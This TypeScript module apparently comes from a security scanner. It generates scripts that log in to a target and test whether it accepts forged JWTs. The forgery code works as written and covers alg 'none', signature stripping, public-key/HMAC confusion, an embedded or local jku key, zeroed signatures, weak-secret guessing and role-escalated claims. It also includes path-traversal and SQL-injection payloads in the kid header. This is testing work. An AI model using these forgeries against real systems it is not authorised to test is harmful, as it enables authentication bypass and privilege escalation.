import type { Reproduction } from '@launch-ready/core';
import type { ProbeContext } from '../probe.ts';
import { curlLine } from '../reproduction/curl-line.ts';
import { ownSession } from '../reproduction/own-session.ts';
import { sessionKit } from '../reproduction/session-kit.ts';
import { requestTemplate } from '../reproduction/request-template.ts';
import { reproductionScriptOf, scriptByHand } from '../reproduction/script-kit.ts';
import type { Credential } from '../session/sessions.ts';
import { weakSecrets } from './weak-secrets.ts';

/** Logs in, forges a token like the one of the login in the same way, and sees whether it is taken. */
export function forgeryReproduction(
  context: Pick<ProbeContext, 'sessions' | 'target'>,
  credential: Credential,
  url: string | null,
  { variant, how }: { readonly variant: string; readonly how: string },
): Reproduction {
  if (url === null)
    return {
      curl: `curl -i "$BASE_URL" -H "$FORGED_TOKEN" # at any operation that nobody may call, with a token of the account, ${how}`,
      script: scriptByHand(`log in, send a token ${how}, and see whether it is refused as nobody is`),
    };
  const { origin } = new URL(url);
  const own = ownSession(context, credential.actor, credential, origin);
  const alive = requestTemplate({ method: 'GET', url }, origin);
  return {
    curl: [
      ...(own.curl === null ? [] : [own.curl]),
      `${curlLine(alive, { credential: 'FORGED_TOKEN' })} # a token of the account, ${how}`,
    ].join('\n'),
    script: reproductionScriptOf({
      does: [`Logs in and sends a token ${how}.`],
      needs: own.needs,
      plan: {
        origin,
        session: own.plan,
        alive,
        variant,
        ...(variant === 'common secret' ? { words: weakSecrets(context.target.name) } : {}),
      },
      uses: [sessionKit],
      body: forging,
    }),
  };
}

const forging = `
const { createHmac, createPublicKey, generateKeyPairSync, sign } = await import('node:crypto');
const session = await logIn();
const pattern = /[\\w-]+\\.[\\w-]+\\.[\\w-]+/;
const [name, value] = session.find(([, one]) => pattern.test(one)) ?? cannotTell('the login gives no readable token');
const token = pattern.exec(value)[0];
const [head, body, signature] = token.split('.');
const decoded = (part) => { try { return JSON.parse(Buffer.from(part, 'base64url').toString()); } catch { return cannotTell('the token cannot be read'); } };
const header = decoded(head);
const claims = decoded(body);
const encoded = (one) => Buffer.from(JSON.stringify(one)).toString('base64url');
const hmac = (key, more = {}, other = {}) => {
  const input = encoded({ ...header, alg: 'HS256', ...more }) + '.' + encoded({ ...claims, ...other });
  return input + '.' + createHmac('sha256', key).update(input).digest('base64url');
};
const rights = Object.fromEntries(Object.entries(claims).filter(([key]) => /^(role|roles|scope|permissions?|admin|is_?admin)$/i.test(key))
  .map(([key, one]) => [key, Array.isArray(one) ? ['admin'] : typeof one === 'boolean' ? true : 'admin']));
const later = typeof claims.exp === 'number' ? { exp: claims.exp + 3600 } : { lr: 1 };
const publicKeys = async () => {
  for (const place of ['/.well-known/jwks.json', '/jwks', '/api/auth/jwks', '/oauth/jwks', '/.well-known/jwks']) {
    const answer = await send({ method: 'GET', place });
    const keys = (answer.json?.keys ?? []).map((key) => createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString());
    if (keys.length > 0) return keys;
  }
  return cannotTell('the public key was not found');
};
const byOwnKey = (more) => {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'own', use: 'sig', alg: 'RS256' };
  const input = encoded({ ...header, alg: 'RS256', kid: 'own', ...more(jwk) }) + '.' + body;
  return input + '.' + sign('sha256', Buffer.from(input), privateKey).toString('base64url');
};
const ownKey = () => [byOwnKey((jwk) => ({ jwk }))];
const ownAddress = async () => {
  const { createServer } = await import('node:http');
  let keys = [];
  const server = createServer((request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys })));
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  server.unref();
  return [byOwnKey((jwk) => { keys = [jwk]; return { jku: 'http://127.0.0.1:' + server.address().port + '/jwks.json' }; })];
};
const zeros = () => [Buffer.alloc({ ES384: 96, ES512: 132 }[header.alg] ?? 64), Buffer.from('3006020100020100', 'hex')]
  .map((one) => head + '.' + body + '.' + one.toString('base64url'));
const common = () => {
  const hash = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }[header.alg];
  const secret = hash && plan.words.find((word) => createHmac(hash, word).update(head + '.' + body).digest('base64url') === signature);
  return secret === undefined ? [] : header.alg === 'HS256' ? [hmac(secret, {}, typeof claims.exp === 'number' ? { exp: claims.exp + 60 } : { lr: 1 })] : [token];
};
const make = {
  'no signature': () => ['none', 'None', 'NONE', 'nOnE'].map((alg) => encoded({ ...header, alg }) + '.' + body + '.'),
  'empty signature': () => [head + '.' + body + '.'],
  'changed claims': () => [head + '.' + encoded({ ...claims, ...later, ...rights }) + '.' + signature],
  'empty key': () => [hmac('')],
  'public key as secret': async () => (await publicKeys()).flatMap((pem) => [hmac(pem), hmac(pem.trim())]),
  'key in the token': ownKey,
  'key address in the token': ownAddress,
  'zero signature': zeros,
  'key name that points elsewhere': () => [hmac('', { kid: '../../../../../../../../dev/null' }), hmac('', { kid: '/dev/null' }), hmac('lr', { kid: "lr-none' UNION SELECT 'lr'-- -" })],
  'common secret': common,
}[plan.variant] ?? (() => cannotTell('there is no way known to make such a token'));
for (const forged of await make())
  if (await alive([[name, value.replace(token, forged)]])) there('the forged token is taken');
if (!(await alive(session))) cannotTell('the true token does not work any more either');
gone('no forged token is taken');
`;
